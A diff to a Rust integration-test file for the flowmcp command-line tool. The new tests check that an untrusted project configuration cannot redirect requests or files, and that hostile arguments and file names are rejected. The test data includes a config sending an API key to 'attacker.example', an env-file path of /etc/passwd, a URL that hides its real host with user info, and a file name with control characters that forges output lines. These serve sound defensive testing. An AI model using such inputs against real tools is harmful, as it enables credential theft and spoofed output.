@@ -315,7 +315,7 @@ fn config_supplies_server_params_upstreams_and_catalog() {
     let home = Scratch::new("config");
     let project = home.0.join("project");
     std::fs::create_dir_all(project.join(".flowmcp")).expect("project dir");
-    let server = TestServer::start(1, |seen: &Seen| {
+    let server = TestServer::start(2, |seen: &Seen| {
         reply(
             200,
             Some("application/json"),
@@ -333,20 +333,156 @@ fn config_supplies_server_params_upstreams_and_catalog() {
         .to_string(),
     )
     .expect("config");
-    let run = flowmcp_env(
-        &[
-            "call",
-            "skycast-io/tool/getCurrentConditions",
-            "--input",
-            r#"{"city": "Oslo"}"#,
-        ],
-        &project,
-        &[("HOME", home.path()), ("SKYCAST_API_KEY", "")],
-    );
+    let env = [("HOME", home.path()), ("SKYCAST_API_KEY", "")];
+    let args = [
+        "call",
+        "skycast-io/tool/getCurrentConditions",
+        "--input",
+        r#"{"city": "Oslo"}"#,
+    ];
+    // With the user's consent on the command line…
+    let mut trusted = args.to_vec();
+    trusted.push("--trust-project-config");
+    let run = flowmcp_env(&trusted, &project, &env);
     assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
     assert_eq!(
         envelope(&run.stdout)["data"]["path"],
         json!("/current/Oslo?units=metric")
     );
-    assert_eq!(server.finish()[0].header("X-Api-Key"), Some(CANARY));
+    // …or in the user configuration.
+    std::fs::create_dir_all(home.0.join(".flowmcp")).expect("user dir");
+    std::fs::write(
+        home.0.join(".flowmcp/config.json"),
+        r#"{"trustProjectConfig": true}"#,
+    )
+    .expect("user config");
+    let run = flowmcp_env(&args, &project, &env);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    let seen = server.finish();
+    assert_eq!(seen.len(), 2);
+    assert!(seen.iter().all(|s| s.header("X-Api-Key") == Some(CANARY)));
+}
+
+#[test]
+fn a_project_config_cannot_redirect_requests_or_files_without_consent() {
+    let home = Scratch::new("config-untrusted");
+    let project = home.0.join("project");
+    std::fs::create_dir_all(project.join(".flowmcp")).expect("project dir");
+    // Laid out like a cache entry (`<namespace>/<tool>.json`) under the directory the project names.
+    std::fs::create_dir_all(project.join("data")).expect("data dir");
+    std::fs::write(project.join("data/records.json"), "{}").expect("file");
+    std::fs::write(
+        project.join(".flowmcp/config.json"),
+        json!({
+            "catalog": repo_root().join("examples/catalog").to_str(),
+            "upstreams": {"skycast-io": "https://attacker.example/{{SERVER_PARAM:SKYCAST_API_KEY}}"},
+            "envFile": "/etc/passwd",
+            "cacheDir": ".",
+        })
+        .to_string(),
+    )
+    .expect("config");
+    let env = [("HOME", home.path())];
+    let list = flowmcp_env(&["list"], &project, &env);
+    assert_eq!(list.code, 0, "{}{}", list.stdout, list.stderr);
+    assert!(
+        list.stderr
+            .contains("ignoring upstreams, envFile, cacheDir from "),
+        "{}",
+        list.stderr
+    );
+    assert!(list.stderr.contains("--trust-project-config"), "{}", list.stderr);
+    // The cache the project named is not used: `clear` looks at ~/.flowmcp/cache, and the
+    // project's files stay.
+    let clear = flowmcp_env(&["cache", "clear"], &project, &env);
+    assert_eq!(clear.code, 0, "{}{}", clear.stdout, clear.stderr);
+    assert!(project.join("data/records.json").is_file());
+    assert!(project.join(".flowmcp/config.json").is_file());
+}
+
+#[test]
+fn usage_errors_for_hostile_arguments_exit_2_before_anything_runs() {
+    let home = Scratch::new("hostile-args");
+    let root = repo_root();
+    let env = [("HOME", home.path())];
+    let call = |extra: &[&str]| {
+        let mut args = vec![
+            "call",
+            "skycast-io/tool/getCurrentConditions",
+            "--catalog",
+            "examples/catalog",
+        ];
+        args.extend_from_slice(extra);
+        flowmcp_env(&args, &root, &env)
+    };
+    // User info makes the real host example.com, not localhost.
+    let run = call(&["--upstream", "skycast-io=http://localhost:1@example.com/"]);
+    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
+    assert!(run.stderr.contains("user info"), "{}", run.stderr);
+    assert!(run.stdout.is_empty());
+    // One key from both --input and --arg.
+    let run = call(&["--input", r#"{"city": "Oslo"}"#, "--arg", "city=Rome"]);
+    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
+    assert!(
+        run.stderr
+            .contains("input \"city\" is given twice, by --input and by --arg"),
+        "{}",
+        run.stderr
+    );
+    // An env file that never ends.
+    #[cfg(unix)]
+    {
+        let run = call(&["--env-file", "/dev/zero", "--arg", "city=Oslo"]);
+        assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
+        assert!(run.stderr.contains("larger than"), "{}", run.stderr);
+    }
+}
+
+#[test]
+fn cache_clear_removes_only_its_own_entries() {
+    let home = Scratch::new("clear-own");
+    let project = home.0.join("project");
+    std::fs::create_dir_all(project.join("src")).expect("dirs");
+    std::fs::write(project.join("src/settings.json"), r#"{"keep": true}"#).expect("file");
+    let dir = project.to_str().expect("UTF-8 path");
+    let run = flowmcp_env(
+        &["cache", "clear", "--cache-dir", dir],
+        &project,
+        &[("HOME", home.path())],
+    );
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    assert!(project.join("src/settings.json").is_file());
+    assert!(
+        run.stdout
+            .starts_with("removed 0 cached responses\nkept 1 file that is not a cache entry written by flowmcp:"),
+        "{}",
+        run.stdout
+    );
+    assert!(run.stdout.contains("settings.json"), "{}", run.stdout);
+}
+
+#[cfg(unix)]
+#[test]
+fn control_characters_in_file_names_cannot_forge_lines() {
+    let home = Scratch::new("ctl-names");
+    let dir = home.0.join("cat");
+    std::fs::create_dir_all(&dir).expect("dir");
+    std::fs::write(
+        dir.join("x\nVAL999 error forged.mjs: all good\x1b[2K.mjs"),
+        "export const main = { namespace: 'Bad' }\n",
+    )
+    .expect("file");
+    let run = flowmcp_env(
+        &["validate", dir.to_str().expect("UTF-8")],
+        &home.0,
+        &[("HOME", home.path())],
+    );
+    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
+    assert!(
+        !run.stdout.lines().any(|l| l.starts_with("VAL999")),
+        "{}",
+        run.stdout
+    );
+    assert!(!run.stdout.contains('\x1b'), "{:?}", run.stdout);
+    assert!(run.stdout.contains("x\\nVAL999 error forged"), "{}", run.stdout);
 }
